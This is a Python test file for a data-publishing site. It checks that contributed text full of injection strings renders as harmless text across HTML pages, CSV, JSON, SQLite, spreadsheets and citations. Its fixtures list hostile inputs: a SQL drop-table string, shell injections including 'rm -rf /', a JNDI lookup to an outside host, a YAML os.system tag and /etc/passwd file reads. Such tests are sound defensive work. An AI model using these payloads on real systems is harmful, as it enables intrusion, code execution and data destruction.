"""Nasty texts that are no fault, such as names with quotes: they pass the check, and every output shows them as text and does nothing else."""

import csv
import html
import io
import json
import re
import sqlite3
import zipfile
from html.parser import HTMLParser

import markdown
import openpyxl
import pytest
import small
import yaml
from conftest import Data

from multivector import load, normalise
from multivector.downloads import citations, downloads
from multivector.downloads.database import table_name
from multivector.pages import pages, render

TEXTS = {
    "sql": "Robert'); DROP TABLE programmes;--",
    "quotes": "a \"b\" 'c' `d` “e”",
    "comparison": "a < b > c & d",
    "half-a-tag": "1 <2 and 3> 2",
    "shell": "$(touch /tmp/x) `id` ; rm -rf / | cat && true",
    "variables": "${7*7} #{7*7} $HOME %PATH% %s %n {0} {x!r}",
    "log-lookup": "${jndi:ldap://e.example/x}",
    "markdown-emphasis": "**bold** _low_ ~~gone~~ *x*",
    "markdown-heading": "# Heading",
    "markdown-list": "1. one * two",
    "markdown-table": "a | b | c",
    "markdown-code": "``` x ```",
    "markdown-reference": "[x]: https://e.example [x][y] ![z]",
    "markdown-bare-link": "see https://e.example/x and <https://e.example/>".replace("<https://e.example/>", "e.example"),
    "attribute-list": "word {: onclick=alert(1) .mv-wide #x }",
    "snippet": 'x --8<-- "/etc/passwd"',
    "admonition": "!!! note alert",
    "footnote": "[^1] and ^up^",
    "emoji-code": ":smile: :material-alert:",
    "front-matter": "x --- title: y ---",
    "yaml": "!!python/object/apply:os.system ['id']",
    "yaml-anchor": "&a *a : - ? x",
    "json-ld": '"}, {"@type": "Person", "x": "',
    "json-unicode": "\\u003cscript\\u003e \\x3cscript",
    "tex": "\\input{/etc/passwd} $x$ 50% a_b ^c ~d #1 {x}",
    "bibtex": "}, @misc{evil, title = {x",
    "ris": "x ER - TY - BOOK",
    "csv": 'a,"b",c;d\\n',
    "spreadsheet-behind-a-word": "x =1+1",
    "url-encoded": "%3Cscript%3E %00 %0d%0aSet-Cookie: a=b",
    "mention": "team @all a@b.example #12",
    "command-of-workflows": "x ::error file=a::b",
    "cdata": "]]> x --> y",
    "long-word": "x" * 500,
    "emoji": "👩‍👩‍👧 🏳️ flag".replace("\u200d", ""),
    "right-to-left-script": "עברית and العربية",
    "persian-with-joiner": "می‌خواهم",
    "combining": "q\u0300\u0301\u0302 zalgo",
    "other-digits": "٣ ४ ５",
    "null-word": "NULL",
    "nan-word": "NaN",
    "true-word": "TRUE",
    "looks-like-a-date": "1-2 SEPT2",
    "long-number": "12345678901234567890",
    "leading-zeros": "007",
    "prototype": "__proto__ constructor",
    "windows-device": "CON AUX NUL",
    "backslashes": "\\\\server\\share\\n",
}
COLUMNS = ("name", "institution", "summary", "note")


def number(name):
    return f"harmless-{list(TEXTS).index(name):02}"


@pytest.fixture(scope="module")
def data(tmp_path_factory):
    """The small record with one programme of training and one source for each text."""
    folder = tmp_path_factory.mktemp("harmless")
    small.write(folder)
    made = Data.__new__(Data)
    made.path = folder / "datapackage"
    for name, text in TEXTS.items():
        key = number(name)
        made.add("reference/sources", source_id=key, title=text, author=text, publisher=text, url=f"https://e.example/{key}", kind="news", note=text)
        made.add(
            "training/programmes",
            training_id=key,
            provider="RUS",
            recipient="KAZ",
            kind="education",
            scope="annual",
            start="2015",
            **dict.fromkeys(COLUMNS, text),
        )
        for field in ("provider", "recipient", "start", "institution"):
            made.add(
                "training/evidence",
                record_id=key,
                field=field,
                source_id=key,
                stated_value=text if field == "institution" else "",
                relation="supports",
                locator=text,
            )
    packages, _ = load.packages(made.path)

    for part in (packages["reference"].tables["sources"], *packages["training"].tables.values()):
        part.path.write_text(normalise.table(part), "utf-8")
    return made


@pytest.fixture(scope="module")
def site(data):
    return small.site(data.path)


@pytest.fixture(scope="module")
def offered(site):
    return downloads(site.packages, site.frames, site.measured, site.charts, site.records, site.site_url)


@pytest.fixture(scope="module")
def written(site):
    return {page.path: render(page, site) for page in pages(site)}


def test_the_check_takes_them(data):
    assert [(p.place, p.message) for p in data.check() if p.severity == "error"] == []


class Seen(HTMLParser):
    """What a browser would show, and the elements and attributes that could do something."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.shown, self.acts = [], []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        given = dict(attrs)
        if tag in ("script", "iframe", "object", "embed", "form", "base", "meta", "link", "style", "img") and given.get("type") != "application/ld+json":
            self.acts.append(tag)
        self.acts += [name for name in given if name.startswith("on") or name in ("style", "srcdoc", "formaction")]
        self.acts += [given["href"] for _ in [0] if not re.match(r"(https?://|[^:]*$)", given.get("href") or "#")]

    def handle_data(self, data):
        self.shown.append(data)


def page(written, name):
    text = written[f"training/{number(name)}.md"]
    front, body = text.split("---\n", 2)[1:]
    return yaml.safe_load(front), markdown.markdown(body, extensions=["attr_list", "def_list", "tables", "admonition", "toc"])


@pytest.mark.parametrize("name", TEXTS)
def test_page(written, name):
    text = TEXTS[name]
    front, body = page(written, name)
    assert html.unescape(front["title"]) == text
    assert "<" not in front["title"]
    assert set(front) <= {"title", "description", "hide"}
    seen = Seen(body)
    assert seen.acts == []
    assert "".join(seen.shown).count(text) >= len(COLUMNS), "every cell is shown as it stands"


def test_all_pages_do_nothing(written):
    for path, text in written.items():
        if path == "sql/index.md":
            continue  # a form and a script of our own, without any contributed text
        body = markdown.markdown(text.split("---\n", 2)[2], extensions=["attr_list", "def_list", "tables", "admonition", "toc"])
        acts = [act for act in Seen(re.sub(r"<svg.*?</svg>", "", body, flags=re.DOTALL)).acts if act != "style"]
        assert acts == [], path


def test_json_ld(written):
    found = 0
    for text in written.values():
        for block in re.findall(r'<script type="application/ld\+json">(.*?)</script>', text, re.DOTALL):
            assert not re.search("[<>]", block)
            json.loads(block)
            found += 1
    assert found


@pytest.mark.parametrize("name", TEXTS)
def test_tables(offered, name):
    text, key = TEXTS[name], number(name)
    rows = {row["training_id"]: row for row in csv.DictReader(io.StringIO(offered["downloads/training/programmes.csv"].decode("utf-8"), newline=""))}
    assert [rows[key][column] for column in COLUMNS] == [text] * len(COLUMNS)
    rows = {row["training_id"]: row for row in json.loads(offered["downloads/training/programmes.json"])}
    assert rows[key]["name"] == text


def test_database(offered, tmp_path):
    (tmp_path / "x.sqlite").write_bytes(offered["downloads/multivector.sqlite"])
    with sqlite3.connect(tmp_path / "x.sqlite") as database:
        assert database.execute("pragma integrity_check").fetchone() == ("ok",)
        rows = dict(database.execute(f"select training_id, summary from {table_name('training', 'programmes')}"))
    assert {name: rows[number(name)] for name in TEXTS} == TEXTS


def test_workbook(offered):
    content = offered["downloads/multivector.xlsx"]
    book = openpyxl.load_workbook(io.BytesIO(content))
    head, *rows = book[table_name("training", "programmes")].iter_rows(values_only=True)
    values = {row[0]: row[head.index("summary")] for row in rows}
    assert {name: values[number(name)] for name in TEXTS} == TEXTS
    assert not [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    names = zipfile.ZipFile(io.BytesIO(content)).namelist()
    assert not [name for name in names if name.startswith("/") or ".." in name or "external" in name.lower() or "macro" in name.lower()]


def test_archives(offered):
    for name, content in offered.items():
        if name.endswith(".zip"):
            archive = zipfile.ZipFile(io.BytesIO(content))
            assert archive.testzip() is None
            assert not [member for member in archive.namelist() if member.startswith("/") or ".." in member or "\\" in member]


def test_every_file_stands_below_the_root(offered, written):
    for name in [*offered, *written]:
        assert re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9_.-]*(/[A-Za-z0-9_][A-Za-z0-9_.-]*)*", name), name


@pytest.mark.parametrize("name", TEXTS)
def test_citations(name):
    work = citations.Work(
        key="training/x",
        title=TEXTS[name],
        path="training/x/",
        creator="Multivector contributors",
        version="1.0.0",
        issued=load.pd.Timestamp("2026-11-22").date(),
        site_url="https://site.example/",
    )
    bib = citations.bibtex(work)
    depth, entries = 0, 0
    for before, char in zip(" " + bib, bib, strict=False):
        if before != "\\" and char in "{}":
            depth += 1 if char == "{" else -1
            entries += depth == 0
    assert (depth, entries) == (0, 1), "one entry, brackets in balance"
    ris = citations.ris(work)
    assert [line[:2] for line in ris.split("\r\n") if line] == ["TY", "AU", "TI", "T2", "ET", "PY", "DA", "UR", "ER"]
    assert json.loads(citations.csl(work))[0]["title"] == TEXTS[name]


def test_api_is_json_and_says_what_stands_there(offered):
    for path, content in offered.items():
        if path.endswith((".json", ".jsonld")):
            json.loads(content)
